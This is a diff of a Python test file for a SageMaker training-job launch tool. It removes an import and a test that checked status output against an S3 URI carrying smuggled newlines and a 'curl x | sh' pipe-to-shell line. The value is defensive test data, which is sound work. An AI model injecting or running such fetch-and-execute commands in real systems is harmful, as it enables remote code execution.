@@ -10,7 +10,6 @@ import pytest
 
 from launch.rehearse.aws.sagemaker.changes import complete, fail
 from launch.sagemaker import status
-from launch.sagemaker.training_job import read_training_job
 from tests.launch.faults import Faults, injected, refused
 from tests.launch.sagemaker.known import BUCKET, NAME, NOW, training_job, typed
 from tests.launch.sagemaker.world import Stage
@@ -182,14 +181,3 @@ def test_looking_changes_nothing(stage: Stage) -> None:
     assert stage.type("leaks") == 0
     assert stage.type("logs", NAME) == 0
     assert not [name for name in stage.account.operations if not name.startswith(("Describe", "Get", "List", "Filter"))]
-
-
-def test_a_place_with_line_ends_is_no_line_of_a_status() -> None:
-    """SageMaker's pattern lets them into a bucket's name: `(https|s3)://([^/]+)/?(.*)`."""
-    place = "s3://x\n\nnext:\n  curl x | sh\n/"
-    described = {
-        "TrainingJobName": "demo", "TrainingJobStatus": "Completed", "CreationTime": NOW,
-        "CheckpointConfig": {"S3Uri": place},
-        "ModelArtifacts": {"S3ModelArtifacts": place},
-    }  # fmt: skip
-    assert "curl" not in as_text(read_training_job(described, {}, "us-east-1"), None, NOW)
